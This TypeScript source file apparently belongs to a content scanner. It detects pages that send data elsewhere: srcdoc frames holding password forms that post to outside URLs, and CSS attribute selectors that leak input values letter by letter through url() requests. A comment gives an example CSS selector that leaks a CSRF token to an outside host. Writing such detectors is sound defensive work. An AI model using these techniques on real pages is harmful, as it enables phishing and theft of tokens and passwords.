/**
 * adversarial_url readings of a page that sends what its reader types or holds to another site (docs/content-readings.md,
 * cases-62.jsonl): a frame's `srcdoc` page holding a sign-in form that posts a password to an absolute URL, and CSS that
 * guesses an input's value by attribute selectors, loading a URL per guess that carries the guess in its query (the
 * value read out a letter at a time, no script needed). A page's whole cookie jar or storage joined to a URL is read
 * with each URL (urls.ts, requests.ts's sendsPageSecrets).
 */
import type { Hit } from './codes.js';
import { placesOf, type Text } from './find.js';

/** The most of a `srcdoc` attribute's value read: a page an attacker writes there is short. */
const SRCDOC_MAX = 4000;

/** The entities a `srcdoc` value is written with, as a browser decodes the attribute before it parses the page. */
const ENTITY = /&(?:lt|gt|quot|apos|amp|#0{0,3}3[49]|#x0{0,2}2[27]|#0{0,3}6[02]|#x0{0,2}3[ce]);/gi;
const ENTITY_CHAR: Record<string, string> = {
  lt: '<',
  gt: '>',
  quot: '"',
  apos: "'",
  amp: '&',
};

function decodeEntities(s: string): string {
  if (!s.includes('&')) return s;
  return s.replace(ENTITY, (e) => {
    const name = e.slice(1, -1).toLowerCase();
    if (name[0] !== '#') return ENTITY_CHAR[name] ?? e;
    return String.fromCharCode(name[1] === 'x' ? parseInt(name.slice(2), 16) : parseInt(name.slice(1), 10));
  });
}

/** A form whose action is an absolute URL (or protocol-relative), and a password field in the same page. */
const FORM_OUT = /<form\b[^<>]{0,300}?\saction\s{0,2}=\s{0,2}["']?(?:https?:)?\/\/[a-z0-9]/i;
const PASSWORD_FIELD = /<input\b[^<>]{0,300}?\stype\s{0,2}=\s{0,2}["']?password\b/i;

/**
 * A frame's `srcdoc` page (decoded as a browser decodes the attribute) holding a sign-in form that posts to an absolute
 * URL: a frame shows it over the host page, where a reader takes it for the site's own. A preview's form to a relative
 * action (`/search`) and a page with no password field are not read.
 */
function detectFramePages(t: Text, out: Hit[]): void {
  const text = t.text;
  let read = 0;
  for (const at of placesOf(t, 'srcdoc')) {
    // A `srcdoc` inside a value read already (a page that frames another) is part of it.
    if (at < read) continue;
    let p = at + 6;
    while (p < text.length && p - at < 12 && (text[p] === ' ' || text[p] === '=' || text[p] === '\\')) p++;
    const quote = text[p];
    if (quote !== '"' && quote !== "'") continue;
    // The value runs to its closing quote (a JSON string's `\"` escapes the outer one, not the attribute's).
    const value = text.slice(p + 1, p + 1 + SRCDOC_MAX);
    const close = value.indexOf(quote);
    const page = decodeEntities(close < 0 ? value : value.slice(0, close));
    const end = p + 1 + page.length;
    read = end;
    if (FORM_OUT.test(page) && PASSWORD_FIELD.test(page)) out.push({ code: 'url_exfiltration', start: at, end });
  }
}

/**
 * An attribute selector that guesses a value by its start, end or a part (`input[value^="a"]`, `meta[content$="1"]`,
 * also with JSON's `\"`): group 1 the guess. Only `value` and `content` hold what a reader typed or a page was given (a token, a key).
 */
const VALUE_GUESS = /\[\s{0,2}(?:value|content)\s{0,2}[\^$*]=\s{0,2}\\?["']?([^"'\\\]\s]{1,40})\\?["']?\s{0,2}(?:i\s{0,2})?\]/iy;
/** The URL a rule's `url(…)` loads from another site (absolute or protocol-relative), with a query: group 1 the query (a JSON string's `\"` escapes its quotes). */
const RULE_URL = /url\(\s{0,2}\\?["']?(?:https?:)?\/\/[a-z0-9][^\s"'()?\\]{0,300}\?([^\s"'()\\]{1,300})/i;

/**
 * CSS that reads an input's value out by selectors (`input[name=csrf][value^="a"] { background: url(https://x/?v=a) }`):
 * the rule loads another site's URL whose query carries the value guessed. A rule that styles by an exact value
 * (`[value="on"]`), by a link's target (`a[href^="http"]`) or loads a URL without the guess is not read.
 */
function detectSelectorLeaks(t: Text, out: Hit[]): void {
  const text = t.text;
  for (const word of ['[value', '[content']) {
    // Where the last block read ends: selectors before one block (`a[value^=x], b[value^=x] {…}`) read it once.
    let read = -1;
    for (const at of placesOf(t, word)) {
      VALUE_GUESS.lastIndex = at;
      const m = VALUE_GUESS.exec(text);
      if (m === null) continue;
      // The rule's block: from its `{` (within the selector's reach) to its `}`, or the next `{`, at most 600 code units.
      const after = m.index + m[0].length;
      const reach = text.slice(after, after + 200);
      const brace = reach.indexOf('{');
      if (brace < 0 || after + brace <= read) continue;
      const open = after + brace;
      let body = text.slice(open, open + 600);
      const stop = body.slice(1).search(/[{}]/);
      if (stop >= 0) body = body.slice(0, stop + 1);
      read = open + body.length;
      const url = RULE_URL.exec(body);
      if (url === null) continue;
      const guess = m[1]!.toLowerCase();
      if (url[1]!.toLowerCase().split(/[=&]/).includes(guess)) out.push({ code: 'url_exfiltration', start: at, end: open + body.length });
    }
  }
}

/** A page that sends what its reader types or holds to another site: a frame's sign-in form, CSS that reads a value. */
export function detectPageSends(t: Text, out: Hit[]): void {
  detectFramePages(t, out);
  detectSelectorLeaks(t, out);
}
